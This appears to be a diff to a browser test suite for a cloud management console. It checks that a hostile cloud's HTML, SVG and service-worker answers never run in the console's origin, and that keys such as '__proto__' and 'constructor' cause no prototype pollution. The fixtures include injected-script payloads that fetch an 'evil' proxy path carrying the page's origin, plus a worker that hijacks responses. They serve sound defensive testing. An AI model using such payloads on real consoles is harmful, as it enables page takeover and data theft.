@@ -1,5 +1,6 @@
 // A cloud that would take over the page: what it answers is never a document, a script or a worker of the console's origin.
 import assert from "node:assert/strict";
+import { constants, generateKeyPairSync, publicEncrypt } from "node:crypto";
 import { after, before, beforeEach, describe, test } from "node:test";
 import { gzipSync } from "node:zlib";
 import { launchBrowser } from "../../src/xtask/browser.mjs";
@@ -8,9 +9,9 @@ import * as steps from "./steps.mjs";
 import { visitor } from "./visitor.mjs";
 
 // Says in the page that it ran, and to its cloud who it is there.
-const SCRIPT = `(globalThis.window ?? globalThis).ran = true; fetch("/proxy/evil/compute/v2.1/loot", { method: "POST", body: self.origin, headers: { "x-ecs-password-console": "1" } });`;
+const SCRIPT = `(globalThis.window ?? globalThis).ran = true; fetch("/proxy/evil/compute/v2.1/os-keypairs/loot-of-" + self.origin.replace(/\\W/g, "-"), { headers: { "x-ecs-password-console": "1" } });`;
 const WORKER = `${SCRIPT} self.addEventListener("fetch", (event) => event.respondWith(new Response("taken over", { headers: { "content-type": "text/html" } })));`;
-const BASE = "/proxy/evil/compute/v2.1";
+const BASE = "/proxy/evil/compute/v2.1/os-keypairs";
 const ANSWERS = {
   "page.html": ["text/html", `<!doctype html><title>evil</title><script>${SCRIPT}</script><script src="${BASE}/run.js"></script><h1>evil</h1>`],
   "page.svg": ["image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script href="${BASE}/run.js"/><script>${SCRIPT}</script></svg>`],
@@ -77,7 +78,7 @@ describe("opened by a link", () => {
         const answer = await page.goto(`${plain}${BASE}/${name}`);
         assert.equal(answer.status(), 200);
         assert.equal(await answer.text(), ANSWERS[name][1]);
-        assert.deepEqual(asked(), [`/v2.1/${name}`], "none of its scripts is asked for");
+        assert.deepEqual(asked(), [`/v2.1/os-keypairs/${name}`], "none of its scripts is asked for");
         const shown = await page.evaluate(() => ({ ran: globalThis.ran, origin: globalThis.origin, type: document.contentType, text: document.body.innerText }));
         assert.deepEqual(shown, { ran: undefined, origin: "null", type: "text/plain", text: ANSWERS[name][1] });
       }));
@@ -140,6 +141,58 @@ describe("used by a document of the console's origin", () => {
       const read = (url) => fetch(url, { headers: { "x-ecs-password-console": "1" } }).then(async (answer) => [answer.headers.get("content-type"), await answer.text()]);
       assert.deepEqual(await page.evaluate(read, `${BASE}/page.html`), ["text/plain", ANSWERS["page.html"][1]]);
     }));
+});
+
+test("names that every object has are names as all others: of a status, a key pair, a network, a policy and a condition key", async () => {
+  const evil = Object.getOwnPropertyNames(Object.prototype);
+  const { publicKey, privateKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
+  const password = publicEncrypt({ key: publicKey, padding: constants.RSA_PKCS1_PADDING }, Buffer.from("of-somebody")).toString("base64");
+  /** With keys that a literal does not set. */
+  const keyed = (keys, value) => Object.fromEntries(keys.map((key) => [key, value]));
+  const id = (index) => `${String(10000000 + index)}-2222-4333-8444-555555555555`;
+  const servers = evil.map((name, index) => ({ id: id(index), name: `server ${name}`, status: name, key_name: name, metadata: { os_type: "windows", ...keyed([name], name) }, addresses: keyed([name], [{ version: 4, addr: "10.0.0.1" }]) }));
+  const condition = { StringEquals: keyed(evil, ["x"]), ...keyed(["constructor", "__proto__"], keyed(["toString"], ["x"])) };
+  const roles = evil.map((name, index) => ({ id: String(index), name, display_name: name, policy: { Version: "1.1", Statement: [{ Effect: "Allow", Action: ["ecs:servers:get"], Condition: condition }] } }));
+  const token = { expires_at: "2999-01-01T00:00:00.000000Z", user: { id: "u", name: "u", domain: { id: "d", name: "d" } }, project: { id: "p", name: "p", domain: { id: "d", name: "d" } }, roles: evil.map((name) => ({ id: name, name })) };
+  const hostile = await startCloud((request, response) => {
+    const path = request.url.split("?")[0];
+    response.setHeader("content-type", "application/json");
+    const say = (what, status = 200, headers = {}) => response.writeHead(status, headers).end(JSON.stringify(what));
+    if (path.endsWith("/auth/tokens")) say({ token }, request.method === "POST" ? 201 : 200, { "x-subject-token": "a-token" });
+    else if (path.endsWith("/servers/detail")) say({ servers });
+    else if (path.endsWith("/os-server-password")) say({ password });
+    else if (path.includes("/os-keypairs/")) say({ keypair: { name: decodeURIComponent(path.split("/").at(-1)), fingerprint: "00", public_key: "ssh-rsa AAAA", type: "ssh" } });
+    else if (path.endsWith("/groups")) say({ groups: [{ id: "g", name: "__proto__" }] });
+    else say({ roles });
+  });
+  const from = await startServer({ sandbox: false, clouds: [{ name: "hostile", kind: "otc", identity: hostile.url, compute: hostile.url }] });
+  await visitor(from, async (page) => {
+    page.setDefaultTimeout(15_000);
+    await steps.signIn(page, { name: "u", domain: "d", password: "secret-of-u", project: "p" });
+    await page.getByRole("link", { name: "server __proto__", exact: true }).waitFor();
+    assert.equal(await page.locator("a.server-name").count(), evil.length);
+    for (const column of ["Status", "Key pair"]) await page.getByRole("columnheader", { name: column }).getByRole("button").click();
+    await page.getByRole("link", { name: "server __proto__", exact: true }).click();
+    await page.getByRole("heading", { name: "server __proto__", level: 1 }).waitFor();
+    await page.getByRole("link", { name: "All servers" }).click();
+    await page.getByRole("checkbox", { name: "Select all that are shown" }).click();
+    await page.getByRole("button", { name: "Get passwords" }).click();
+    await page.getByRole("heading", { name: "Passwords of many servers" }).waitFor();
+    await steps.chooseKeyFile(page, { name: "__proto__", mimeType: "text/plain", buffer: Buffer.from(privateKey.export({ type: "pkcs1", format: "pem" })) });
+    await page.getByRole("button", { name: "Forget __proto__" }).waitFor();
+    await page.getByRole("button", { name: /^Get \d+ passwords/ }).click();
+    await page.getByRole("button", { name: "Export as CSV" }).waitFor();
+    await page.goto(`${from}/#/permissions`);
+    await page.getByRole("tab", { name: "APIs" }).waitFor();
+    await page.locator(".fact").filter({ hasText: "__proto__" }).first().waitFor();
+    for (const key of ["__proto__", "constructor", "toString"]) {
+      const fact = page.locator(".fact").filter({ has: page.locator("code").getByText(key, { exact: true }) });
+      assert.equal(await fact.getByRole("combobox").first().inputValue(), "unknown", key);
+      await fact.getByRole("combobox").first().selectOption("given");
+      await fact.getByRole("textbox").fill("x");
+      assert.equal(await fact.getByRole("combobox").first().inputValue(), "given", key);
+    }
+  }, { secrets: ["of-somebody"] });
 });
 
 test("300 MB in 0.3 MB of gzip are an error that says so, and the page goes on", async () => {
